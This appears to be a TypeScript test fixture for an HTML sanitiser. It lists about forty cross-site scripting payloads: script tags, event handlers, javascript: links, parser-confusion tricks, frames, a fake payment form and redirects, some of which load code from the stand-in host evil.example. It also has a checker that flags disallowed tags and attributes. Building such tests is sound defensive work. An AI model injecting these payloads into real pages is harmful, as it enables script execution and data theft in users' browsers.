import sanitize from 'sanitize-html'

/** What somebody could write into a text to make a browser do something. */
export const attacks: [string, string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in capitals', '<ScRiPt >alert(1)</sCrIpT>'],
  ['a script that never ends', '<script>alert(1)'],
  ['a script within a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script from elsewhere', '<script src="//evil.example/x.js"></script>'],
  ['a module', '<script type="module">import("//evil.example/x.js")</script>'],
  ['an event handler', '<p onclick="alert(1)">x</p>'],
  ['an event handler without quotes', '<img src=x onerror=alert(1)>'],
  ['an event handler after a slash', '<img src="x"/onerror=alert(1)>'],
  ['an event handler in SVG', '<svg><g onload="alert(1)"></g></svg>'],
  ['a script in SVG', '<svg><script>alert(1)</script></svg>'],
  ['an animation of a link', '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>'],
  ['a script link', '<a href="javascript:alert(1)">x</a>'],
  ['a script link in capitals', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['a script link with a tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['a script link with entities', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
  ['a script link behind a control character', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['a data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['a vbscript link', '<a href="vbscript:x">x</a>'],
  ['a style', '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>'],
  ['a style sheet', '<style>body{display:none}</style>'],
  ['a style that ends early', '<style></style><script>alert(1)</script></style>'],
  ['a linked style sheet', '<link rel=stylesheet href=//evil.example/x.css>'],
  ['a class of the page', '<div class="dialog">x</div>'],
  ['a frame', '<iframe src="//evil.example"></iframe>'],
  ['a frame with a page in it', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object', '<object data="//evil.example"></object><embed src="//evil.example">'],
  ['a form', '<form action="//evil.example"><input name=card><button>Pay</button></form>'],
  ['a base', '<base href="//evil.example/">'],
  ['a redirection', '<meta http-equiv=refresh content="0;url=//evil.example">'],
  ['a picture that counts visitors', '<img src="https://evil.example/pixel.gif">'],
  ['a picture by its set', '<img src="/media/logo.svg" srcset="//evil.example/x 2x">'],
  ['a script picture', '<img src="javascript:alert(1)">'],
  ['mathematics with a script', '<math><mtext></p><img src=x onerror=alert(1)></mtext></math>'],
  ['a template', '<template><script>alert(1)</script></template>'],
  ['a comment that ends early', '<!--><script>alert(1)</script>-->'],
  ['noscript that ends early', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['a textarea that ends early', '<textarea></textarea><script>alert(1)</script>'],
  ['an end of the page', '</body></html><script>alert(1)</script>'],
  ['a configuration that ends early', '</script><script>alert(1)</script>'],
]

/** Every tag of a text and its attributes, as a parser of HTML sees them. */
export function tagsIn(html: string): { tag: string; attributes: Record<string, string> }[] {
  const tags: { tag: string; attributes: Record<string, string> }[] = []
  sanitize(html, {
    allowedTags: false,
    allowedAttributes: false,
    allowVulnerableTags: true,
    nonTextTags: [],
    allowedSchemesAppliedToAttributes: [],
    onOpenTag: (tag, attributes) => void tags.push({ tag, attributes }),
  })
  return tags
}

const PAGE_TAGS = new Set(['p', 'a', 'img', 'div', 'br'])
const PAGE_ATTRIBUTES = new Set(['href', 'src', 'alt', 'width', 'height', 'loading'])

/** What in a page's text a browser would do more with than show it. */
export const harmIn = (html: string): string[] => [
  ...(/<!|evil\.example/.exec(html) ?? []),
  ...tagsIn(html).flatMap(({ tag, attributes }) => [
    ...(PAGE_TAGS.has(tag) ? [] : [tag]),
    ...Object.entries(attributes)
      .filter(([attribute, value]) => !PAGE_ATTRIBUTES.has(attribute) || !isPlain(attribute, value))
      .map(([attribute, value]) => `${attribute}=${value}`),
  ]),
]

function isPlain(attribute: string, value: string): boolean {
  if (attribute === 'href') return /^(https?:\/\/|mailto:|tel:|\/(?!\/)|#)/.test(value)
  return attribute !== 'src' || !/^\s*(\w+:|\/\/)/.test(value)
}
